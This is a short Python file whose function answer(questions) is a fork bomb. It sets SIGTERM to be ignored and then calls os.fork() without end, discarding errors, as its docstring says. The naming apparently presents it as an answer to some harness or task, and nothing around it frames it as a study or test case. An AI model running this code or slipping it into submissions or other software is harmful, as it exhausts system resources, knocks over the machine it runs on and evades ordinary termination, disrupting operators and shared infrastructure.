"""Forks without end; the children do the same and ignore signals."""

import os
import signal


def answer(questions):
    signal.signal(signal.SIGTERM, signal.SIG_IGN)
    while True:
        try:
            os.fork()
        except OSError:
            pass
